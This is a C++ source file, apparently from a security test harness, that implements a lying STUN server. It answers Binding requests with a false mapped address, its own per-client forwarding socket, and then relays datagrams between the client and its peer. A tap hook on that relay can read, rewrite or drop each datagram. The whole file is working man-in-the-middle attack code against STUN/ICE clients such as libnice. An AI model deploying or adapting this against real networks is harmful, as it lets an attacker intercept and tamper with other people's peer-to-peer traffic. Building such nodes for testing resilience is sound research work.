#include "attacks/stun_node.hpp"

#include "attacks/stun_method.hpp"

#include <stun/stunagent.h>
#include <stun/stunmessage.h>

#include <map>
#include <set>
#include <vector>

#include "attacks/node_events.hpp"
#include "attacks/udp_socket.hpp"
#include "core/timeline_events.hpp"

namespace sigtrust::attacks {
namespace {

using namespace std::chrono_literals;

constexpr size_t kMaxForwarders = 256;  // bounds what a flood of Binding requests can make us hold

struct Forwarder {
  Endpoint client;  // who asked, and is told `fake` is its own address
  Endpoint fake;  // the forwarding socket's address
  std::unique_ptr<UdpSocket> socket;
  std::optional<Endpoint> peer;  // the last sender other than the client
  std::set<std::pair<RelayDirection, Endpoint>> announced;  // first forward each way, for the timeline
};

}  // namespace

struct LyingStunNode::Impl {
  MainLoop& loop;
  std::string address;

  // Binding requests carry no credentials here (RFC 8489 §9: authentication
  // is optional for Binding). Two agents because libnice's either requires
  // FINGERPRINT or ignores it, while RFC 8489 §7 makes it optional but
  // binding when present; the FINGERPRINT one also writes every response.
  StunAgent agent{}, agent_fp{};
  // RFC 3489 clients send no magic cookie — libnice 0.1.21 itself does, for
  // server-reflexive discovery — and get MAPPED-ADDRESS (RFC 8489 §12.2).
  StunAgent classic_agent{};

  std::unique_ptr<UdpSocket> server;
  std::map<Endpoint, std::unique_ptr<Forwarder>> forwarders;  // by client transport address
  std::set<Endpoint> fakes;  // every forwarding socket's address
  RelayTap* tap = nullptr;
  NodeEvents events;
  std::vector<std::uint8_t> out = std::vector<std::uint8_t>(STUN_MAX_MESSAGE_SIZE_IPV6);

  std::uint64_t forwarded_bytes = 0, forwarded_datagrams = 0, lies = 0;

  Impl(MainLoop& l, std::string addr, Timeline& t, std::string a)
      : loop(l), address(std::move(addr)), events(t, std::move(a), "stun", "did not forward for") {
    stun_agent_init(&agent, STUN_ALL_KNOWN_ATTRIBUTES, STUN_COMPATIBILITY_RFC5389, STUN_AGENT_USAGE_IGNORE_CREDENTIALS);
    stun_agent_init(
        &agent_fp, STUN_ALL_KNOWN_ATTRIBUTES, STUN_COMPATIBILITY_RFC5389,
        static_cast<StunAgentUsageFlags>(STUN_AGENT_USAGE_IGNORE_CREDENTIALS | STUN_AGENT_USAGE_USE_FINGERPRINT));
    stun_agent_init(&classic_agent, STUN_ALL_KNOWN_ATTRIBUTES, STUN_COMPATIBILITY_RFC3489,
                    STUN_AGENT_USAGE_IGNORE_CREDENTIALS);
  }

  void send(const Endpoint& to, size_t len) {
    if (len > 0) server->send_to(to, std::span<const std::uint8_t>(out.data(), len));
  }

  void on_server_datagram(const Endpoint& from, std::span<const std::uint8_t> d) {
    if (const char* why = stun_framing_error(d)) return events.malformed(from, why);
    StunMessage probe{};
    probe.agent = &agent;
    probe.buffer = const_cast<std::uint8_t*>(d.data());
    probe.buffer_len = d.size();
    const bool has_fingerprint = stun_message_has_attribute(&probe, STUN_ATTRIBUTE_FINGERPRINT);
    const bool classic = !stun_message_has_cookie(&probe);  // RFC 8489 §12: an RFC 3489 client
    StunAgent* validator = classic ? &classic_agent : has_fingerprint ? &agent_fp : &agent;
    StunAgent* writer = classic ? &classic_agent : &agent_fp;

    StunMessage req{};
    const StunValidationStatus status = stun_agent_validate(validator, &req, d.data(), d.size(), nullptr, nullptr);
    const StunClass cls = stun_message_get_class(&probe);
    const bool binding = stun_method_of(probe.buffer) == STUN_BINDING;
    const auto reply_error = [&](StunError code) {
      StunMessage resp{};
      if (stun_agent_init_error(writer, &resp, out.data(), out.size(), &req, code))
        send(from, stun_agent_finish_message(writer, &resp, nullptr, 0));
    };
    switch (status) {
      case STUN_VALIDATION_SUCCESS: break;
      case STUN_VALIDATION_BAD_REQUEST:  // RFC 8489 §7: a wrong FINGERPRINT means it is not STUN
        return events.malformed(from, has_fingerprint ? "FINGERPRINT does not match" : "rejected by the STUN agent");
      case STUN_VALIDATION_UNKNOWN_REQUEST_ATTRIBUTE: {
        // RFC 8489 §6.3.1: unknown comprehension-required attributes → 420 listing them.
        StunMessage resp{};
        send(from, stun_agent_build_unknown_attributes_error(writer, &resp, out.data(), out.size(), &req));
        return events.malformed(from, "unknown comprehension-required attribute");
      }
      case STUN_VALIDATION_UNMATCHED_RESPONSE: return events.malformed(from, "unsolicited STUN response");
      default: return events.malformed(from, "rejected by the STUN agent");
    }
    if (binding && cls == STUN_INDICATION) return;  // RFC 8489 §6.3.2: a keepalive; no response
    if (!binding || cls != STUN_REQUEST) {
      // A STUN-only server knows one method; RFC 8489 §6.3.1: other requests → 400.
      if (cls == STUN_REQUEST) reply_error(STUN_ERROR_BAD_REQUEST);
      return events.malformed(from, "not a Binding request");
    }
    lie(from, req, classic);
  }

  // RFC 8489 §14.2: XOR-MAPPED-ADDRESS is meant to be the source address the
  // server saw (MAPPED-ADDRESS for an RFC 3489 client, §12.2). Here it is the
  // forwarding socket's.
  void lie(const Endpoint& from, const StunMessage& req, bool classic) {
    StunAgent* writer = classic ? &classic_agent : &agent_fp;
    StunMessage resp{};
    // Never let one of our own forwarding sockets become a client: the two
    // would forward to each other.
    if (fakes.count(from) || from == server->local())
      return events.dropped(from, "Binding request from the node itself");
    Forwarder* fwd = forwarder_for(from);
    if (!fwd) {
      if (stun_agent_init_error(writer, &resp, out.data(), out.size(), &req, STUN_ERROR_SERVER_ERROR))
        send(from, stun_agent_finish_message(writer, &resp, nullptr, 0));
      return events.dropped(from, "no forwarding socket left");
    }
    if (!stun_agent_init_response(writer, &resp, out.data(), out.size(), &req)) return;
    const sockaddr_storage fake = fwd->fake.to_sockaddr();
    const StunMessageReturn appended =
        classic ? stun_message_append_addr(&resp, STUN_ATTRIBUTE_MAPPED_ADDRESS,
                                           reinterpret_cast<const sockaddr*>(&fake), sizeof fake)
                : stun_message_append_xor_addr(&resp, STUN_ATTRIBUTE_XOR_MAPPED_ADDRESS, &fake, sizeof fake);
    if (appended != STUN_MESSAGE_RETURN_SUCCESS) return;
    ++lies;
    send(from, stun_agent_finish_message(writer, &resp, nullptr, 0));
  }

  Forwarder* forwarder_for(const Endpoint& client) {
    if (const auto it = forwarders.find(client); it != forwarders.end()) return it->second.get();
    if (forwarders.size() >= kMaxForwarders) return nullptr;
    auto fwd = std::make_unique<Forwarder>();
    fwd->client = client;
    Forwarder* raw = fwd.get();
    try {
      fwd->socket = std::make_unique<UdpSocket>(
          loop, address,
          [this, raw](const Endpoint& from, std::span<const std::uint8_t> d) { on_forwarder_datagram(*raw, from, d); });
    } catch (const UdpSocket::Failure& e) {
      events.event(events::kStunError, std::string("cannot open a forwarding socket: ") + e.what());
      return nullptr;
    }
    fwd->fake = fwd->socket->local();
    fakes.insert(fwd->fake);
    events.event(events::kStunLie, "told " + client.to_string() + " its address is " + fwd->fake.to_string(),
                 {{"client", client.to_string()}, {"fake", fwd->fake.to_string()}});
    return forwarders.emplace(client, std::move(fwd)).first->second.get();
  }

  void on_forwarder_datagram(Forwarder& fwd, const Endpoint& from, std::span<const std::uint8_t> data) {
    if (from == fwd.client) {
      if (!fwd.peer) return events.dropped(from, "nobody has sent to " + fwd.fake.to_string() + " yet");
      return forward(fwd, RelayDirection::ToPeer, *fwd.peer, data);
    }
    fwd.peer = from;  // the NAT's "last sender" rule: replies from the client go back here
    forward(fwd, RelayDirection::ToClient, from, data);
  }

  void forward(Forwarder& fwd, RelayDirection dir, const Endpoint& peer, std::span<const std::uint8_t> data) {
    const Endpoint& to = dir == RelayDirection::ToClient ? fwd.client : peer;
    if (to == server->local()) return events.dropped(peer, "would forward into the STUN port");
    std::vector<std::uint8_t> rewritten;
    if (tap) {
      RelayedDatagram rd{dir, fwd.client.to_string(), fwd.fake.to_string(), peer.to_string(),
                         std::vector<std::uint8_t>(data.begin(), data.end())};
      if (!tap->on_datagram(rd)) return events.dropped(peer, "the tap dropped a datagram");
      rewritten = std::move(rd.data);
      data = rewritten;
    }
    if (!fwd.socket->send_to(to, data)) return;
    forwarded_bytes += data.size();
    ++forwarded_datagrams;
    if (fwd.announced.emplace(dir, peer).second) {
      const std::string from_text = dir == RelayDirection::ToClient ? peer.to_string() : fwd.client.to_string();
      events.event(events::kStunForward,
                   "forwarding " + from_text + " -> " + to.to_string() + " through " + fwd.fake.to_string(),
                   {{"client", fwd.client.to_string()},
                    {"fake", fwd.fake.to_string()},
                    {"peer", peer.to_string()},
                    {"direction", std::string(to_string(dir))}});
    }
  }
};

LyingStunNode::LyingStunNode(MainLoop& loop, const std::string& address, Timeline& timeline, std::string actor)
    : impl_(std::make_unique<Impl>(loop, address, timeline, std::move(actor))) {
  Impl* impl = impl_.get();
  impl_->server = std::make_unique<UdpSocket>(
      loop, address,
      [impl](const Endpoint& from, std::span<const std::uint8_t> d) { impl->on_server_datagram(from, d); });
  impl_->events.event(events::kStunListen, "lying STUN server listening on " + impl_->server->local().to_string(),
                      {{"address", impl_->server->local().to_string()}});
}

LyingStunNode::~LyingStunNode() = default;

std::uint16_t LyingStunNode::port() const { return impl_->server->local().port; }
const std::string& LyingStunNode::address() const { return impl_->address; }
void LyingStunNode::set_tap(RelayTap* tap) { impl_->tap = tap; }

std::optional<std::string> LyingStunNode::fake_address_of(const std::string& client) const {
  const auto c = Endpoint::parse(client);
  if (!c) return std::nullopt;
  const auto it = impl_->forwarders.find(*c);
  if (it == impl_->forwarders.end()) return std::nullopt;
  return it->second->fake.to_string();
}

std::uint64_t LyingStunNode::forwarded_bytes() const { return impl_->forwarded_bytes; }
std::uint64_t LyingStunNode::forwarded_datagrams() const { return impl_->forwarded_datagrams; }
std::uint64_t LyingStunNode::lies() const { return impl_->lies; }
std::uint64_t LyingStunNode::malformed() const { return impl_->events.malformed_total(); }
std::uint64_t LyingStunNode::dropped() const { return impl_->events.dropped_total(); }
size_t LyingStunNode::forwarders() const { return impl_->forwarders.size(); }

}  // namespace sigtrust::attacks
